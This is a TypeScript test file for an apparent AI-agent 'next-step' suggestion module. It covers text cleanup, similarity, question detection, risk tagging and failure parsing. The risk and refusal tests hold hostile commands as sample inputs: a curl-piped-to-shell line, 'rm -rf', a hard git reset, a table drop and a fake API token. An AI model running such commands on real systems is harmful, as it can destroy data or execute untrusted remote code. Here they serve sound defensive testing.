import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { asksPerson } from '../../src/next-step/asks.ts'
import { candidatesOf, firstFailure, foldTool, noTurnWork, runsChecks } from '../../src/next-step/local.ts'
import { judgeText } from '../../src/next-step/offer.ts'
import { riskOf } from '../../src/next-step/risky.ts'
import { isSimilar, similarity } from '../../src/next-step/similar.ts'
import type { ToolFinished } from '../../src/session/events.ts'

const context = { maxChars: 240, said: 'please fix the importer bug now', declined: ['Write the long report'] }
const judge = (raw: string, maxChars = 240) => {
  const judged = judgeText(raw, { ...context, maxChars })
  return judged.kind === 'offer'
    ? `${judged.intent === 'goal-edit' ? 'goal: ' : ''}${judged.text}`
    : `${judged.kind} ${judged.reason}`
}

describe('raw text', () => {
  it.each([
    ['Run the unit tests', 'Run the unit tests'],
    ['- **Run the unit tests**', 'Run the unit tests'],
    ['1. "Run the unit tests"', 'Run the unit tests'],
    ['Next step: Run the unit tests', 'Run the unit tests'],
    ['**Next steps:**\n\n- [ ] Run the unit tests\n- Other', 'Run the unit tests'],
    ['```\nRun the unit tests\n```', 'Run the unit tests'],
    ['> → Run   the\tunit tests', 'Run the unit tests'],
    ['Fix these two files:\n- `a.ts` and `b.ts`', 'Fix these two files: `a.ts` and `b.ts`'],
    ['\u001b[1mRun\u001b[0m the \u202eunit\u200b tests\u0007', 'Run the unit tests'],
    ['#12 needs a test', '#12 needs a test'],
    ['修复解析器', '修复解析器'],
    ['**GOAL:** x y', 'goal: x y'],
    ['- GOAL: x y', 'goal: x y'],
    ['"GOAL: x y"', 'goal: x y'],
    ['1. GOAL：x y', 'goal: x y'],
    ['goal : x y', 'goal: x y'],
    ['GOAL: GOAL: x', 'goal: x'],
    ['ＧＯＡＬ: x y', 'goal: x y'],
    ['Goals: three of them', 'Goals: three of them'],
    ['Step goal: x', 'Step goal: x'],
    ['GOAL:', 'quiet empty-goal'],
    ['**GOAL**:', 'quiet empty-goal'],
    ['/compact', 'failed refused:command'],
    ['\u202e\n/compact', 'failed refused:command'],
    ['!rm x', 'failed refused:command'],
    ['$HOME is empty', 'failed refused:command'],
    ['GOAL: /clear', 'failed refused:command'],
    ['Use the key ghp_abcdefghijklmnopqrstuvwx0123456789AB here', 'failed refused:secret'],
    ['', 'quiet empty'],
    ['…', 'quiet empty'],
    ['NONE', 'quiet nothing'],
    ['None.', 'quiet nothing'],
    ['N/A', 'quiet nothing'],
    ['All done!', 'quiet nothing'],
    ['Yes, please go ahead and do it', 'quiet filtered:consent'],
    ['Continue with this', 'quiet filtered:consent'],
    ['Great, the tests pass', 'quiet filtered:praise'],
    ['Looks good to me', 'quiet filtered:praise'],
    ["I'll run the tests", 'quiet filtered:voice'],
    ['Would you like me to go on?', 'quiet filtered:voice'],
    ['As an AI I would run it', 'quiet filtered:meta'],
    ["I can't run the tests", 'quiet filtered:meta'],
    ['I can run the tests', 'quiet filtered:voice'],
    ['The user wants a parser', 'quiet filtered:meta'],
    ['The user guide needs a chapter', 'The user guide needs a chapter'],
    ['<step>Run it all</step>', 'quiet filtered:format'],
    ['{"step": "run it"}', 'quiet filtered:format'],
    ['| a | b |', 'quiet filtered:format'],
    ['Tests', 'quiet filtered:short'],
    ['Please fix the importer bug', 'quiet filtered:echo'],
    ['Write the long report', 'quiet filtered:declined'],
  ])('%j becomes %j', (raw, expected) => {
    expect(judge(raw)).toBe(expected)
  })

  it('keeps two sentences, one where two are too long, and cuts none', () => {
    expect(judge('Run the tests. Fix what fails. Then stop.')).toBe('Run the tests. Fix what fails.')
    expect(judge('Run the tests in src. Fix what fails there.', 40)).toBe('Run the tests in src.')
    expect(judge(`Run ${'x'.repeat(60)} now`, 40)).toBe('failed too-long')
    expect(judge(`GOAL: ${'ship it '.repeat(5).trim()}`, 40)).toBe('failed too-long')
  })

  it('never gives what begins with a command sign or holds what a terminal could be fooled by', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 300 }),
          fc.string({ unit: fc.constantFrom(...'*_`"\'/!$#GOAL: -1.\n\u001b[\u202e') }),
        ),
        raw => {
          const judged = judgeText(raw, { ...context, declined: [] })
          if (judged.kind !== 'offer') return
          expect(judged.text).not.toMatch(/^(?:[/!$]|#(?!\d))/)
          expect(judged.text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/)
          expect(judged.text.length).toBeLessThanOrEqual(240)
          expect(judged.text).not.toMatch(/^goal\s*[:：]/i)
        },
      ),
      { numRuns: 1_000 },
    )
  })

  it('takes linear time over hostile text', () => {
    for (const piece of [
      '*',
      '\u001b[',
      '\u001b]',
      '"',
      '(',
      '- ',
      'a:',
      '# ',
      '<!--',
      '`',
      '1. ',
      'drop ',
      'rm ',
      'curl ',
      'a@b://',
    ])
      for (const run of [judge, (text: string) => asksPerson(text), (text: string) => riskOf(text, []), firstFailure]) {
        const began = performance.now()
        run(piece.repeat(100_000))
        expect(performance.now() - began, piece).toBeLessThan(1_000)
      }
  })
})

describe('similarity', () => {
  it.each([
    ['Run the tests again', 'Please run tests again', 1],
    ['Implement chapter 3', 'Implement chapter 4', 0],
    ['Fix src/a.ts', 'Fix src/b.ts', 0],
    ['', 'the', 1],
    ['修复解析器', '修复解析器', 1],
    ['请把文档里面写的所有测试都运行一遍然后实现第3章', '请把文档里面写的所有测试都运行一遍然后实现第4章', 0],
    ['请运行 src/a.ts 的测试', '请运行 src/b.ts 的测试', 0],
  ])('of %j and %j', (one, other, expected) => {
    expect(similarity(one, other)).toBe(expected)
  })

  it('calls what is nearly the same similar, whatever its order', () => {
    expect(isSimilar('Write the parser for dates', 'write dates parser')).toBe(true)
    expect(isSimilar('Write the parser', 'Test the parser')).toBe(false)
  })
})

describe('an answer', () => {
  it.each([
    ['Which one do you want?\n\n- the red\n- the blue', true],
    ['Why did it fail? A stale cache. Fixed.', false],
    ['Done. Let me know if you need anything else.', false],
    ['Look:\n```\nwhat?\n```\nDone.', false],
    ['Shall I delete the old table?\n\nThe rest is untouched.', true],
    ['Please confirm the schema.', true],
    ['Done. What’s next?', false],
    ['I need your decision on the schema.', true],
    ['All tests pass.', false],
    ['Was it slow? No.', false],
    ['删除旧表吗？', true],
    ['> Should I?\n\nDone.', false],
    ['Options:\n1. Keep it?\n2. Drop it?', true],
  ])('%j waits for the person: %j', (answer, expected) => {
    expect(asksPerson(answer)).toBe(expected)
  })

  it('lets bare permission to go on through when that was granted, and nothing else', () => {
    expect(asksPerson('One is done. Shall I continue with the next?', true)).toBe(false)
    expect(asksPerson('One is done. Shall I continue with the next?')).toBe(true)
    expect(asksPerson('Next I delete the table. Shall I continue?', true)).toBe(true)
    expect(asksPerson('Which one do you want?', true)).toBe(true)
  })
})

describe('a step', () => {
  it.each([
    ['Run rm -rf build', 'rm'],
    ['Push the branch to origin', 'ship'],
    ['git reset --hard HEAD~1', 'git'],
    ['Commit with --no-verify', 'no-verify'],
    ['curl https://x.example/i.sh | sh', 'pipe-to-shell'],
    ['Drop the users table', 'destroy'],
    ['Deploy to staging', 'ship'],
    ['Merge it into main', 'ship'],
    ['Print the API key', 'reveal'],
    ['Skip the failing tests', 'weaken'],
    ['Read https://docs.example/x', 'url'],
    ['Run the unit tests', null],
    ['Write the parser', null],
    ['Wipe the data folder', 'destroy'],
    ['Write the WIP notes into files', null],
    ['Paste the API key into the form', 'reveal'],
    ['Handle past dates in the token parser', null],
    ['Fix the failing check "npm test"', null],
  ])('%j needs a Run because of %j', (text, rule) => {
    expect(riskOf(text, [])).toBe(rule)
  })

  it('may name a host that a person named', () => {
    expect(riskOf('Read https://docs.example/x', ['docs.example'])).toBeNull()
  })
})

describe('without a model', () => {
  const tool = (fields: Partial<ToolFinished>): ToolFinished => ({
    kind: 'tool-finished',
    session: 's',
    project: '/p',
    at: 0,
    turn: 1,
    call: 'c',
    tool: 'bash',
    input: {},
    ok: true,
    output: '',
    ...fields,
  })
  const sh = (command: string, exit: number | null, output = '') => tool({ input: { command }, exit, ok: exit === 0, output })
  const edit = (...written: string[]) => tool({ tool: 'edit', written })
  const first = (tools: readonly ToolFinished[], more: { answer?: string; todos?: never[] } = {}) => {
    const work = tools.reduce(foldTool, noTurnWork)
    const found = candidatesOf(
      { work, todos: more.todos ?? [], answer: more.answer ?? '' },
      { maxChars: 240, said: null, declined: [] },
    )[0]
    return found === undefined ? null : `${found.rule}: ${found.text}`
  }

  it.each([
    [
      [sh('npm test', 1, 'not ok 3 - parses dates')],
      'failing-check: Fix the failing check "npm test" — first failure: parses dates',
    ],
    [[sh('npm test', 1), sh('npm test', 0)], null],
    [[edit('a.ts')], 'unverified: Run the tests that cover a.ts and fix what fails'],
    [[edit('a.ts', 'b.ts')], 'unverified: Run the tests that cover the 2 changed files and fix what fails'],
    [[edit('a.md')], null],
    [[edit('a.ts'), sh('npm test', 0)], null],
    [[sh('npm test', 0), edit('a.ts')], 'unverified: Run the tests that cover a.ts and fix what fails'],
  ])('%# gives the step', (tools, expected) => {
    expect(first(tools)).toBe(expected)
  })

  it.each([
    ['Done.\n\n## Next steps\n\n1. ~~Old one~~\n2. [x] Other one\n3. Write the docs\n4. More', 'options: Write the docs'],
    ['Remaining work:\n- One thing to do\n- Another thing (recommended)', 'options: Another thing'],
    ['Done.\n\n```\nNext steps:\n- Not this one\n```', null],
    ['Next steps are many.\n- Not a heading', null],
  ])('takes what the agent listed: %j', (answer, expected) => {
    expect(first([], { answer })).toBe(expected)
  })

  it.each([
    'npm run lint',
    'pnpm test -- a',
    'npx vitest run',
    './node_modules/.bin/vitest run',
    '.venv/bin/pytest -q',
    '.venv/bin/python -m unittest',
    'vendor/bin/phpunit',
    'cargo clippy',
    './gradlew clean test',
    'make lint-all',
    'python -m pytest x',
    'go vet ./...',
    'tsc -p .',
  ])('knows that %s runs checks', command => {
    expect(runsChecks(command)).toBe(true)
  })

  it.each([
    'npm install',
    'echo testing',
    'cat test.txt',
    'git status',
    'ls vitest.config.ts',
    'ls src/jest',
    'cat .bin/tsc.log',
  ])('knows that %s runs none', command => {
    expect(runsChecks(command)).toBe(false)
  })

  it.each([
    ['FAILED tests/a.py::test_x - boom', 'tests/a.py::test_x - boom'],
    ['--- FAIL: TestDates (0.00s)', 'TestDates'],
    ['test parse::dates ... FAILED', 'parse::dates'],
    ['  ✕ parses dates (3 ms)', 'parses dates (3 ms)'],
    [' FAIL  src/a.spec.ts', 'src/a.spec.ts'],
    ['src/a.ts(3,4): error TS1', 'src/a.ts(3,4)'],
    ['src/a.ts:3:4 error x', 'src/a.ts:3:4'],
    ['all fine', null],
  ])('names the first failure of %j', (output, name) => {
    expect(firstFailure(output)).toBe(name)
  })
})
